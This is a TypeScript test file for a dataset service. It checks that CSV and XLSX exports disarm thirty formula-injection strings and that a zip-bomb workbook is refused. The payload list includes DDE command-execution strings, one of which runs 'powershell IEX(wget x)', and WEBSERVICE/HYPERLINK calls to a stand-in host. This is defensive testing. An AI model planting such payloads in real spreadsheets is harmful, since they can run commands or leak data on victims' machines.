import { describe, expect, it } from 'vitest'
import { readXlsx } from '../../src/spreadsheet/read-xlsx.ts'
import { openZip, writeZip } from '../../src/spreadsheet/zip.ts'
import { useService } from '../support/service.ts'

const service = useService({ worker: false })

/** Texts that a spreadsheet would run when it opens a file. */
const payloads: readonly string[] = [
  ...[
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget x)'!A0",
    '=1+1',
    '=SUM(A1:A9)',
    '=HYPERLINK("http://x?"&A1)',
  ],
  ...[
    '=IMPORTXML("http://x","//a")',
    '=WEBSERVICE("http://x")',
    '=DDE("cmd";"/C calc";"x")',
    '==1',
    '= 1',
    '=\t1',
  ],
  ...[
    "+cmd|' /C calc'!A0",
    '+1+1',
    '+SUM(A1)',
    '++1',
    "-cmd|' /C calc'!A0",
    '-1+1',
    '-2+3+cmd|x!A',
    '--1',
    '-=1',
  ],
  ...[
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@A1',
    '@@',
    '\t=1+1',
    '\r=1+1',
    '\t@A1',
    "'=1+1",
    "''=1+1",
    '=1,"=2"',
    '="a"\n=1',
  ],
]

describe('thirty texts that begin as formulas', () => {
  const dataset = {
    id: 'formulas',
    segment: 'games',
    title: { en: '=title', zh: '=title' },
    metric: 'revenue',
    scope: { en: '=scope', zh: null },
    unit: '亿元',
    currency: 'CNY',
    region: 'CN',
    observations: payloads.map((note, index) => ({
      period: String(1990 + index),
      value: -index,
      status: 'actual',
      note,
    })),
  }

  it('are disarmed in every cell of a table, and come back as they were', async () => {
    expect(new Set(payloads).size).toBe(30)
    await service.http.post('/v1/datasets').send(dataset).expect(201)
    const { text } = await service.http
      .get('/v1/datasets/formulas/observations/export?format=csv')
      .expect(200)
    // Cells of the raw text: a quoted one runs to the next quote that is not doubled.
    const cells = [...text.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
      cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
    )
    const numbers = cells.filter(cell => /^-\d+$/.test(cell))
    expect(numbers.length).toBeGreaterThan(20)
    for (const cell of cells) if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/)
    await service.http
      .post('/v1/datasets/formulas/observations/import')
      .set('content-type', 'text/csv')
      .set('if-match', '*')
      .send(text)
      .expect(200)
    const { body } = await service.http.get('/v1/datasets/formulas').expect(200)
    const notes = body.observations.map(({ note }: { note: string }) => note)
    expect(notes).toEqual(payloads)
  })

  it('are text cells in a workbook, and none of them is a formula', async () => {
    const { body } = await service.http
      .get('/v1/datasets/formulas/observations/export?format=xlsx')
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = []
        response.on('data', chunk => chunks.push(chunk as Buffer))
        response.on('end', () => done(null, Buffer.concat(chunks)))
      })
      .expect(200)
    const zip = openZip(body as Buffer)
    for (const sheet of ['sheet1', 'sheet2']) {
      const xml = zip.read(`xl/worksheets/${sheet}.xml`)?.toString() ?? ''
      expect(xml).not.toMatch(/<f[ >]/)
      const texts = [...xml.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, each = '']) => each)
      expect(texts.length).toBeGreaterThan(5)
      for (const each of texts) expect(each).not.toMatch(/^[=+\-@\t\r]/)
    }
    const rows = readXlsx(body as Buffer)
    expect(rows.length).toBeGreaterThan(payloads.length - 1)
  })
})

describe('a workbook that is a bomb', () => {
  const workbook = (sheet: string) =>
    writeZip([
      ['xl/workbook.xml', '<workbook xmlns:r="r"><sheets><sheet name="x" r:id="a"/></sheets></workbook>'],
      [
        'xl/_rels/workbook.xml.rels',
        '<Relationships><Relationship Id="a" Target="worksheets/s.xml"/></Relationships>',
      ],
      ['xl/worksheets/s.xml', sheet],
    ])
  const send = (bytes: Buffer) =>
    service.http
      .post('/v1/datasets/games_gpc/observations/import')
      .set('content-type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
      .set('if-match', '*')
      .send(bytes)

  it('is refused, and takes no memory to speak of', async () => {
    const row = '<row><c><v>1</v></c></row>'
    const bomb = workbook(`<worksheet>${row.repeat(4_000_000)}</worksheet>`)
    expect(bomb.length).toBeLessThan(2_000_000)
    const before = process.memoryUsage().rss
    for (let count = 0; count < 3; count++) {
      const { status, body } = await send(bomb)
      expect(status, JSON.stringify(body)).toBe(422)
      expect(body.code).toBe('unreadable-table')
    }
    expect((process.memoryUsage().rss - before) / 2 ** 20).toBeLessThan(100)
    await service.http.get('/livez').expect(200)
  })
})
